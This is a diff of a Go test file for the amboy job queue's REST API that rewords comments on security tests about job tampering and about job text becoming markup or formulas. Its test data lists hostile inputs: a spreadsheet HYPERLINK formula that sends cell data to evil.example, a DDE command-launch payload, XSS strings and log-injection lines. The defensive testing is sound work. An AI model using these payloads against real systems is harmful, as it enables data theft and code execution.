@@ -16,7 +16,7 @@ import (
 	"github.com/mongodb/amboy/rest"
 )
 
-// stored is what a store has of a job: its type, its arguments and its place in the queue.
+// stored returns the stored values of a job: its type, its arguments, its priority and so on.
 func stored(t *testing.T, inspector management.Inspector, name, id string) string {
 	job, err := inspector.Job(t.Context(), name, id)
 	require.NoError(t, err)
@@ -25,8 +25,8 @@ func stored(t *testing.T, inspector management.Inspector, name, id string) strin
 	return string(encoded)
 }
 
-// One who may read, or put jobs, must not change the type or the arguments of a job that is
-// there, in whatever way a framework would take it for a change.
+// A client that may read or put jobs must not change the type or the arguments of an existing
+// job, in any of the ways in which web frameworks accept changes.
 func TestAttackAReaderChangesAJob(t *testing.T) {
 	inspector := newWorld(t)
 	const target = "/v2/queues/orders/jobs/scheduled"
@@ -73,15 +73,15 @@ func TestAttackAReaderChangesAJob(t *testing.T) {
 	}
 }
 
-// formulas are what a spreadsheet would compute, a page would run, or a log would take for a
-// line, as the name of a job, in its arguments and as its error.
+// formulas are texts that a spreadsheet would compute, a page would run, or a log would show
+// as a line of its own. They are used as IDs, arguments and errors of jobs.
 var formulas = []string{
 	`=HYPERLINK("http://evil.example?"&A1,"ok")`, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-1+1", "\t=1", "<script>alert(1)</script>",
 	`"><img src=x onerror=alert(1)>`, "{{.}}", "javascript:alert(1)", "a\nlevel=emergency msg=forged", "</pre><h1>forged",
 }
 
-// What is stored leaves as data: no answer is one that a browser runs or a spreadsheet
-// opens, whatever is asked for, and no text of a job becomes markup.
+// Stored values are served as data: no answer has a type that a browser runs or a spreadsheet
+// opens, whatever the Accept header, and no text of a job becomes markup.
 func TestAttackATextOfAJobBecomesMarkupOrAFormula(t *testing.T) {
 	q := newQueue(t)
 	inspector, err := management.NewInspector(q)
